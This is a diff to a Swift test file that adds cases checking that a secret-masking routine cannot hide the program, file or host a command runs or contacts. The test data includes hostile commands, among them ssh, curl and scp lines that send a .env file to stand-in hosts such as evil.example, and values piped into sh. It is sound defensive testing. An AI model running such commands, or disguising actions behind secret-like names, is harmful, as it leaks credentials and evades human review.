@@ -150,6 +150,55 @@ struct SecretMaskTests {
         ])
     func commands(_ text: String, _ shown: String) { #expect(SecretMask.mask(text) == shown) }
 
+    /// Programs, files and hosts that hide behind the name of a secret: the command, and what must not be hidden in it.
+    static let disguises: [(String, String)] = [
+        ("A_TOKEN=/tmp/x1.sh; $A_TOKEN", "/tmp/x1.sh"),
+        ("SECRET=evil.example; ssh $SECRET < .env", "evil.example"),
+        ("npm test --auth-token=../../evil/preload.js", "../../evil/preload.js"),
+        ("API_KEY=halt; sudo ${API_KEY}", "halt"),
+        ("API_KEY='halt'; sudo \"${API_KEY:-ls}\"", "halt"),
+        ("PASSWORD=root@203.0.113.9 && scp .env $PASSWORD:", "root@203.0.113.9"),
+        ("curl --token evil.example/x1 -d @.env", "evil.example/x1"),
+        ("f() { $2; }; f --token halt1", "halt1"),
+        ("f() { \"$@\"; }; Bearer() { \"$@\"; }; f Bearer /tmp/aaaaaaaaaaaaaaaa.sh", "/tmp/aaaaaaaaaaaaaaaa.sh"),
+        ("X='Authorization: /tmp/x1.sh'; ${X#*: }", "/tmp/x1.sh"),
+        ("echo token=halt1 | cut -d= -f2 | sh", "halt1"),
+        ("printf 'password: x1y2z3' | xargs -n1 sh -c", "x1y2z3"),
+        ("python3 -c 'import os; password = \"halt1\"; os.system(password)'", "halt1"),
+        ("node -e 'const token = `x`; run({token: \"evil.example\"})'", "evil.example"),
+        ("KEY=evilprogram1name2of3mine4 && ./$KEY", "evilprogram1name2of3mine4"),
+        ("ssh ghp_abcdefghijklmnopqrstuvwxyz", "ghp_abcdefghijklmnopqrstuvwxyz"),
+        ("sh sk_live_abcdefghijklm", "sk_live_abcdefghijklm"),
+        (": -----BEGIN PRIVATE KEY-----\nabcdEFGH1234abcdEFGH1234", "abcdEFGH1234abcdEFGH1234"),
+        ("curl http://good.example:x@evil.example@good.example/", "x@evil.example"),
+        ("A_TOKEN=Ab1Cd2Ef3Gh4Ij5Kl6Mn7; ./$A_TOKEN", "Ab1Cd2Ef3Gh4Ij5Kl6Mn7"),
+        ("env --secret=Ab1Cd2/Ef3Gh4.Ij5Kl6Mn7 make", "Ab1Cd2/Ef3Gh4.Ij5Kl6Mn7"),
+        ("eval \"$(echo --token halt1)\"", "halt1"),
+        ("$A_TOKEN = halt1; & $A_TOKEN", "halt1"),
+    ]
+
+    @Test("What a command runs, opens or contacts is shown, or counted as hidden", arguments: disguises)
+    func disguise(_ command: String, _ hidden: String) {
+        let masked = SecretMask.masked(command)
+        #expect(masked.text.contains(hidden) || masked.used > 0, "\(masked.text)")
+        let evidence = ShownEvidence(command)
+        #expect(evidence.isWhole == (masked.used == 0))
+        #expect(evidence.lines.contains("a masked value is used here") == (masked.used > 0))
+    }
+
+    @Test(
+        "A masked value that is only handed over hides nothing that is decided on",
+        arguments: [
+            "curl -H 'Authorization: Bearer \(jwt)' https://api.example/x", "gh auth login --token \(body)",
+            "OPENAI_API_KEY=abc npm start", "curl -u ann:hunter2 https://h.example/x", "mysql --password=hunter2 shop",
+            "git clone https://ann:s3cret@host.example/x", "{\"password\": \"x\", \"user\": \"y\"}",
+        ])
+    func data(_ command: String) {
+        let masked = SecretMask.masked(command)
+        #expect(masked.count == 1 && masked.used == 0, "\(masked.text)")
+        #expect(ShownEvidence(command).isWhole)
+    }
+
     static let pieces = [
         "password", "=", " ", "--token", " -u ", "KEY", "ann", "hooks.slack.com/services/", ":", "\"", "'", "x1y2z3",
         "; ", "|", "&&", "$(", ")", "`", "\n", "\\", "\\n",
